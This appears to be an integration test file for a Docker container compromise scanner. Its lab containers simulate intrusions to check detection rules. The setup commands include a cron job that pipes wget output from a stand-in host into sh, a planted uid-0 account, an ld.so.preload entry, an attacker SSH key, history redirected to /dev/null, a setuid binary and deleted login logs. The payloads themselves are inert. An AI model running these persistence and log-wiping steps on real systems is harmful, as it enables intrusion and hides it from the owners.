package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rummage-scanner/rummage/report"
	"github.com/rummage-scanner/rummage/testdata/lab"
)

// The tests in this file need a Docker engine on this host, root, and the
// images that testdata/lab/images makes.

// rummage runs a command in this process. It returns the exit status and what
// was written.
func rummage(ctx context.Context, args ...string) (status int, stdout, stderr string) {
	var out, err bytes.Buffer
	status = run(ctx, args, strings.NewReader(""), &out, &err)
	return status, out.String(), err.String()
}

// scanned is the report on targets, and the exit status.
func scanned(t *testing.T, args ...string) (*report.Report, int) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "report.json")
	status, _, stderr := rummage(t.Context(), append([]string{"scan", "-o", "json=" + file}, args...)...)
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("status %d: %s", status, stderr)
	}
	r := &report.Report{}
	if err := json.Unmarshal(text, r); err != nil {
		t.Fatal(err)
	}
	return r, status
}

// find returns the findings of a rule.
func find(r *report.Report, rule string) []report.Finding {
	var found []report.Finding
	for _, target := range r.Targets {
		for _, f := range target.Findings {
			if f.Rule == rule {
				found = append(found, f)
			}
		}
	}
	return found
}

// TestSeedCase is the case that rummage was begun for.
func TestSeedCase(t *testing.T) {
	name := lab.Run(t, lab.Debian, "sleep", "1000")
	lab.Shell(t, name, `
		rm /var/log/lastlog /var/log/faillog
		echo 'import time; time.sleep(1000)' >/root/Datastealer.py
		mkdir /root/loot; echo a >/root/loot/a; echo b >/root/notes.txt
		cp /bin/sleep /usr/local/bin/rogue
	`)
	lab.Docker(t, "exec", "-d", name, "/usr/local/bin/rogue", "1000")
	lab.Docker(t, "exec", "-d", name, "python3", "/root/Datastealer.py")
	time.Sleep(200 * time.Millisecond)

	r, status := scanned(t, name, "--fail-on", "high")
	if status != statusFindings || r.Targets[0].Verdict != report.Compromised {
		t.Errorf("status %d, verdict %s", status, r.Targets[0].Verdict)
	}
	for _, path := range []string{"/var/log/lastlog", "/var/log/faillog"} {
		if !has(find(r, "files/login-records-deleted"), path) {
			t.Errorf("%s was not found to be deleted", path)
		}
	}
	if !has(find(r, "files/hidden-in-root-home"), "/root/Datastealer.py") {
		t.Error("Datastealer.py was not found")
	}
	if len(find(r, "files/root-home-added")) == 0 {
		t.Error("the other files in /root were not found")
	}
	drifted := find(r, "processes/drift")
	if len(drifted) != 2 {
		t.Errorf("%d of 2 rogue processes were found", len(drifted))
	}
}

func has(found []report.Finding, path string) bool {
	for _, f := range found {
		if f.Location.Path == path {
			return true
		}
	}
	return false
}

// TestIntruder does a little of everything, through both ways of reading.
func TestIntruder(t *testing.T) {
	name := lab.Run(t, "--cap-add", "SYS_ADMIN", "-v", "/var/run/docker.sock:/var/run/docker.sock:ro", lab.Debian, "sleep", "1000")
	lab.Shell(t, name, `
		mkdir -p /root/.ssh /tmp/.x
		echo 'ssh-ed25519 AAAAinert intruder' >/root/.ssh/authorized_keys
		ln -sf /dev/null /root/.bash_history
		echo /usr/local/lib/inert.so >/etc/ld.so.preload.new; mv /etc/ld.so.preload.new /etc/ld.so.preload
		echo 'sys:x:0:0::/root:/bin/sh' >>/etc/passwd
		echo '* * * * * root wget -q -O- http://192.0.2.1/x | sh' >/etc/cron.d/update
		cp /bin/sleep /tmp/.x/kworker; chmod 4755 /tmp/.x/kworker
		cp /bin/true /bin/false
		rm /var/log/dpkg.log /var/log/alternatives.log /var/log/bootstrap.log 2>/dev/null || true
	`)
	lab.Docker(t, "exec", "-d", name, "/tmp/.x/kworker", "1000")
	lab.Docker(t, "exec", "-d", name, "sh", "-c", "sleep 1000 # stratum+tcp://pool.example.invalid:3333; true")
	time.Sleep(200 * time.Millisecond)
	want := []string{
		"config/dangerous-capability", "config/engine-socket-mounted",
		"files/executable-in-temp", "files/hidden-directory", "files/history-to-null", "files/preload-added",
		"files/setuid-added", "files/system-binary-modified",
		"persistence/authorized-keys", "persistence/cron-added", "persistence/cron-download", "persistence/uid0-account",
		"processes/drift", "processes/stratum", "processes/temp-path",
	}
	r, _ := scanned(t, name)
	for _, rule := range want {
		if len(find(r, rule)) == 0 {
			t.Errorf("%s found nothing", rule)
		}
	}
	again, _ := scanned(t, name)
	if a, b := fingerprints(r), fingerprints(again); a != b {
		t.Errorf("another run has other fingerprints:\n%s\n%s", a, b)
	}
}

func fingerprints(r *report.Report) string {
	var all []string
	for _, f := range r.Targets[0].Findings {
		all = append(all, f.Rule+" "+f.Fingerprint)
	}
	return strings.Join(all, "\n")
}

// TestCleanServices runs services of Debian as they are meant to be run, and
// lets them work.
func TestCleanServices(t *testing.T) {
	services := map[string]struct{ start, use string }{
		"nginx": {`exec nginx -g 'daemon off;'`, `sleep 0.5; printf 'GET / HTTP/1.0\r\n\r\n' | timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; cat >&3; cat <&3' >/dev/null`},
		"redis": {`exec su redis -s /bin/sh -c 'exec redis-server /etc/redis/redis.conf --daemonize no'`, `sleep 0.5; redis-cli set a b; redis-cli save`},
		"cron":  {`exec cron -f`, `echo '* * * * * true' | crontab -u nobody - && crontab -u nobody -r`},
		"postgres": {`install -d -o postgres /var/run/postgresql; exec su postgres -c 'exec /usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf'`,
			`for i in 1 2 3 4 5 6 7 8 9 10; do su postgres -c 'psql -c "create table t as select generate_series(1, 1000)"' && exit; sleep 0.5; done; exit 1`},
	}
	var names []string
	for service, s := range services {
		name := lab.Run(t, lab.Debian, "sh", "-c", s.start)
		lab.Shell(t, name, s.use)
		names = append(names, name)
		t.Log(service, name)
	}
	r, status := scanned(t, append(names, "--category", "anomaly")...)
	if status != statusOK {
		t.Errorf("status %d", status)
	}
	for _, target := range r.Targets {
		if target.Verdict != report.Clean {
			t.Errorf("%s: %s", target.Name, target.Verdict)
		}
		for _, f := range target.Findings {
			if f.Severity > report.Low {
				t.Errorf("%s: %s %s: %s %v", target.Name, f.Severity, f.Rule, f.Message, f.Location)
			}
		}
	}
}

// TestEngineTarget judges the engine after all containers, and by its name.
func TestEngineTarget(t *testing.T) {
	r, status := scanned(t, "--filter", "name=no-such-container")
	if status != statusOK || len(r.Targets) != 1 || r.Targets[0].Kind != "engine" || r.Targets[0].Verdict == report.Unknown {
		t.Errorf("status %d: %+v", status, r.Targets)
	}
	if len(r.Notices) != 1 || !strings.HasPrefix(r.Notices[0], "no container was scanned") {
		t.Errorf("notices %q", r.Notices)
	}
	name := lab.Run(t, lab.Busybox, "sleep", "1000")
	all, _ := scanned(t, "--filter", "name="+name)
	if len(all.Targets) != 2 || all.Targets[0].Name != name || all.Targets[1].Kind != "engine" || len(all.Notices) != 0 {
		t.Errorf("%+v %q", all.Targets, all.Notices)
	}
	if named, _ := scanned(t, name); len(named.Targets) != 1 || named.Targets[0].Kind != "container" {
		t.Errorf("%+v", named.Targets)
	}
	alone, _ := scanned(t, "engine:")
	if len(alone.Targets) != 1 || alone.Targets[0].Name != all.Targets[1].Name || alone.Targets[0].ID == "" || len(alone.Notices) != 0 {
		t.Errorf("%+v %q", alone.Targets, alone.Notices)
	}
}

// TestFailures has what goes wrong with an engine.
func TestFailures(t *testing.T) {
	tests := map[string]struct {
		args []string
		says string
	}{
		"no such engine":      {[]string{"scan", "-H", "unix:///nonexistent.sock"}, "cannot reach the Docker engine"},
		"no such container":   {[]string{"scan", "no-such-container"}, "is called no-such-container"},
		"no such case":        {[]string{"scan", "case:x"}, "no case x"},
		"no such data root":   {[]string{"scan", "docker-root:x"}, "open data root"},
		"an engine's name":    {[]string{"scan", "engine:other"}, "no engine is called"},
		"malformed filter":    {[]string{"scan", "--filter", "nonsense"}, "KEY=VALUE"},
		"unknown document":    {[]string{"scan", "document:/nonexistent.json"}, "nonexistent.json"},
		"no such host":        {[]string{"scan", "-H", "tcp://127.0.0.1:1"}, "connection refused"},
		"malformed host":      {[]string{"scan", "-H", "nonsense"}, "nonsense"},
		"unreadable settings": {[]string{"scan", "-c", "/nonexistent.yaml"}, "nonexistent.yaml"},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			status, stdout, stderr := rummage(t.Context(), test.args...)
			if status != statusError || stdout != "" {
				t.Errorf("status %d, stdout %q", status, stdout)
			}
			lines := strings.Split(strings.TrimSpace(stderr), "\n")
			if len(lines) != 2 || !strings.HasPrefix(lines[0], "rummage: ") || !strings.HasPrefix(lines[1], "hint: ") || !strings.Contains(lines[0], test.says) {
				t.Errorf("stderr:\n%s", stderr)
			}
		})
	}
}

// TestInterrupted ends a scan while it runs.
func TestInterrupted(t *testing.T) {
	name := lab.Run(t, lab.Debian, "sleep", "1000")
	lab.Shell(t, name, "cp -r /usr/lib /opt/lib")
	ctx, cancel := context.WithCancel(t.Context())
	time.AfterFunc(400*time.Millisecond, cancel)
	file := filepath.Join(t.TempDir(), "report.json")
	status, _, stderr := rummage(ctx, "scan", name, name, name, "-o", "json="+file)
	if status != statusInterrupted {
		t.Fatalf("status %d: %s", status, stderr)
	}
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var r report.Report
	if err := json.Unmarshal(text, &r); err != nil {
		t.Fatal(err)
	}
	unfinished := false
	for _, target := range r.Targets {
		unfinished = unfinished || target.Incomplete()
	}
	if !unfinished || len(r.Notices) == 0 {
		t.Errorf("the report does not say that it is not whole: %v", r.Notices)
	}
}
